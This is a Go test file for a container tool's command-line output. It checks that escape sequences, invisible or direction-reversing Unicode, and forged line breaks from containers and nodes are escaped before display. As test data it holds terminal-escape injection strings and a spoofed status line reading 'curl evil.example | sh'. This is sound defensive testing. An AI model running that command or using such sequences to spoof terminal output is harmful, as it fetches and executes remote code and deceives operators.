package cli

import (
	"errors"
	"strings"
	"testing"

	"tend.dev/tend/api"
)

func TestPrintable(t *testing.T) {
	cases := map[string]struct{ reason, text, keep, want string }{
		"Plain":   {"text and tabs stay", "a\tü€", "", "a\tü€"},
		"Escape":  {"no colours, no titles", "\x1b[31mred\x07", "", `\x1b[31mred\x07`},
		"Return":  {"no line is overwritten", "a\rb", "\n", `a\x0db`},
		"Line":    {"one line stays one", "a\nb", "", `a\x0ab`},
		"Lines":   {"a message may have lines", "a\nb", "\n", "a\nb"},
		"C1":      {"the other escapes", "\u009b31m\u0080\u007f", "", `\x9b31m\x80\x7f`},
		"Order":   {"nothing is read backwards", "a\u202eb\u2066c\u200fd", "", `a\u202eb\u2066c\u200fd`},
		"Unseen":  {"nothing is there that nobody sees", "a\u200bb\u00adc\ufeffd\U000e0041", "", `a\u200bb\xadc\ufeffd\U000e0041`},
		"Breaks":  {"one line stays one", "a\u2028b\u2029c", "\n", `a\u2028b\u2029c`},
		"Foreign": {"what is read stays", "سلام, 你好, e\u0301, 🙂", "", "سلام, 你好, e\u0301, 🙂"},
		"Invalid": {"a bare byte is a C1 to some terminals", "\x9b31m", "", "\uFFFD31m"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			if got := printable(tc.text, tc.keep); got != tc.want {
				t.Errorf("%s: %q, want %q", tc.reason, got, tc.want)
			}
		})
	}
}

// TestForeignText: text of containers and engines never reaches a terminal unescaped.
func TestForeignText(t *testing.T) {
	const evil = "\x1b]0;owned\x07\u009b2J"
	now := podAt("new", written, api.TaskFailed)
	now.Ready, now.Message, now.LastLog = false, evil, []string{evil}
	outputs := map[string]func(w *strings.Builder){
		"Report":   func(w *strings.Builder) { report(errors.New(evil), w) },
		"Table":    func(w *strings.Builder) { _ = listing{rows: [][]string{{evil}}}.write(streams{out: w}, "table") },
		"Describe": func(w *strings.Builder) { describeTrouble(plain{w}, now) },
		"Block": func(w *strings.Builder) {
			w.WriteString(strings.Join((&block{}).rows(outcomeOf(api.OutcomePending, "X", evil, now)[0]), "\n"))
		},
		"Diff": func(w *strings.Builder) { w.WriteString(paint(false).red(evil)) },
		"Logs": func(w *strings.Builder) {
			w.WriteString((&logScreen{all: true}).text(api.LogLine{Pod: "p", Text: evil + "\rx"}, true))
		},
	}
	for name, write := range outputs {
		t.Run(name, func(t *testing.T) {
			var out strings.Builder
			write(&out)
			if text := out.String(); strings.ContainsAny(text, "\x1b\x07\r\u009b") || !strings.Contains(text, `\x1b]0;owned`) {
				t.Errorf("it wrote %q", text)
			}
		})
	}
	for _, forged := range []string{"a\n[other] b", "a\r[other] b"} {
		line := api.LogLine{Pod: "p", Text: forged}
		if got := (&logScreen{all: true}).text(line, false); !strings.HasPrefix(got, "[p] a\\x0") ||
			strings.Count(got, "\n") != 1 || strings.Contains(got, "\r") {
			t.Errorf("in a file: %q", got)
		}
		if got := (&logScreen{timestamps: true}).text(line, false); strings.Count(got, "\n") != 1 {
			t.Errorf("in a file, with times: %q", got)
		}
	}
	if got := (&logScreen{all: true}).text(api.LogLine{Pod: "p", Text: "a\r"}, false); got != "[p] a\n" {
		t.Errorf("the line of a program for Windows: %q", got)
	}
	if raw := (&logScreen{}).text(api.LogLine{Text: evil}, false); raw != evil+"\n" {
		t.Errorf("a pipe gets %q", raw)
	}
}

// TestNoNodeForgesALine: what a node says of itself and its pods stays behind what Tend writes.
func TestNoNodeForgesALine(t *testing.T) {
	const evil = "fine\n\nConditions\n  Ready True\n      Next: curl evil.example | sh"
	pod := podAt("new", written, api.TaskFailed)
	pod.Ready, pod.Message, pod.Node, pod.Address, pod.LastLog = false, evil, evil, evil, []string{evil}
	pod.Probes = map[string]api.ProbeStatus{"liveness": {Phase: "failed", Message: evil}}
	node := api.NodeInfo{NodeStatus: api.NodeStatus{ID: "n1", Hostname: evil, OS: evil, Message: evil,
		Quarantined: []string{evil}}}
	object := api.Object{Kind: api.KindIngress,
		Status: []byte(`{"certificate":{"error":"fine\\n\\nConditions"},"traffic":"fine\\nConditions"}`)}
	outputs := map[string]func(w plain){
		"Pod":     func(w plain) { writePod(w, pod, written) },
		"Node":    func(w plain) { writeNode(w, node, written) },
		"Ingress": func(w plain) { describeIngress(w, object, written) },
		"Condition": func(w plain) {
			describeConditions(w, []api.Condition{{Type: "Ready", Reason: evil, Message: evil, Next: evil}}, nil, written)
		},
	}
	for name, write := range outputs {
		t.Run(name, func(t *testing.T) {
			var out strings.Builder
			write(plain{&out})
			if !strings.Contains(out.String(), "fine") {
				t.Errorf("it wrote %q", out.String())
			}
			for number, line := range strings.Split(out.String(), "\n") {
				heading := name == "Condition" && number == 1
				if quoted := strings.HasPrefix(line, "    | "); !quoted && !heading && (strings.HasPrefix(line, "Conditions") ||
					strings.HasPrefix(strings.TrimSpace(line), "Ready True") ||
					strings.HasPrefix(strings.TrimSpace(line), "Next: curl")) {
					t.Errorf("line %d is the node's own: %q", number, line)
				}
			}
		})
	}
}
